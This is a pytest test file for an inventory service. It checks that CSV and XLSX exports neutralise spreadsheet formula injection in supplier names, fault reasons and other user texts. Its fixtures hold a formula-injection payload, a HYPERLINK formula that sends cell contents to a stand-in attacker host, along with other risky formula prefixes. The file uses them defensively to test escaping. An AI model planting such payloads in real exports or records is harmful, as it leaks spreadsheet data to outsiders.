"""No export carries a formula: texts received from users (a supplier name, a fault reason)
come out of every CSV as inert text and out of every XLSX as string cells."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from inventory_service.cli import app
from inventory_service.platform import spreadsheets
from inventory_service.platform.db import Database, set_database
from inventory_service.platform.settings import Settings, get_settings, replace_settings
from tests import factories

API = "/api/v1"
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
RISKY = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", RISKY)
def test_a_risky_text_gets_a_leading_quote(text: str) -> None:
    assert spreadsheets.inert(text) == "'" + text


@pytest.mark.parametrize("value", ["PSU-750W", "王工", "", 5, -5, 1.5, True, None])
def test_other_values_are_written_as_they_are(value: object) -> None:
    assert spreadsheets.inert(value) == value


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    """Every non-empty cell of every sheet: (value, openpyxl data type; `f` is a formula)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.fixture
def poisoned_unit(db: Database) -> Database:
    """A unit received with a formula as its supplier and one as its document."""
    with db.transaction() as session:
        factories.warehouse(session, "WH-SY")
        factories.part(session, "PSU-750W")
        factories.spare(
            session,
            "SN-1",
            provenance={"supplier": ATTACK, "channel": "+86 channel", "document": "@doc"},
        )
    return db


def test_spares_export_csv_and_xlsx_carry_no_formula(
    poisoned_unit: Database, client: TestClient, admin: dict[str, str]
) -> None:
    answer = client.get(f"{API}/spares/export", params={"format": "csv"}, headers=admin)
    rows = csv_rows(answer.content)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Supplier"] == "'" + ATTACK
    assert row["Channel"] == "'+86 channel"
    assert row["Document"] == "'@doc"
    book = client.get(f"{API}/spares/export", params={"format": "xlsx"}, headers=admin)
    cells = xlsx_cells(book.content)
    assert (ATTACK, "s") in cells
    assert ("+86 channel", "s") in cells
    assert all(kind != "f" for _, kind in cells)


@pytest.fixture
def poisoned_report(db: Database) -> Database:
    with db.transaction() as session:
        factories.replacement_row(
            session,
            "R-1",
            replaced_at=datetime(2026, 10, 10, 12, 0, tzinfo=ZoneInfo("Asia/Shanghai")),
            duration_minutes=90,
            reason=ATTACK,
            fault_impact="-1 link down",
            engineer="@王工",
        )
    return db


def test_replacement_report_csv_and_xlsx_carry_no_formula(
    poisoned_report: Database, client: TestClient, admin: dict[str, str]
) -> None:
    url = f"{API}/reports/replacements"
    answer = client.get(url, params={"month": "2026-10", "format": "csv"}, headers=admin)
    rows = csv_rows(answer.content)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["reason"] == "'" + ATTACK
    assert row["fault_impact"] == "'-1 link down"
    assert row["engineer"] == "'@王工"
    assert row["duration_minutes"] == "90"
    book = client.get(url, params={"month": "2026-10", "format": "xlsx"}, headers=admin)
    cells = xlsx_cells(book.content)
    assert (ATTACK, "s") in cells
    assert ("@王工", "s") in cells
    assert all(kind != "f" for _, kind in cells)


def test_coverage_csv_carries_no_formula(committed_db: Database) -> None:
    with committed_db.transaction() as session:
        factories.customer(session, "=CMD")
        factories.site(session, "-SITE", customer_code="=CMD")
        factories.part(session, "@PSU")
        factories.installed_part(session, site_code="-SITE", part_number="@PSU", serial="C1")
    old_settings = replace_settings(
        Settings(**(get_settings().model_dump() | {"database_url": committed_db.url}))
    )
    old_db = set_database(committed_db)
    try:
        result = CliRunner().invoke(app, ["coverage", "--csv"])
    finally:
        set_database(old_db)
        replace_settings(old_settings)
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout.encode())
    assert rows[0][:3] == ["site_code", "customer_code", "part_number"]
    assert rows[1][:3] == ["'-SITE", "'=CMD", "'@PSU"]
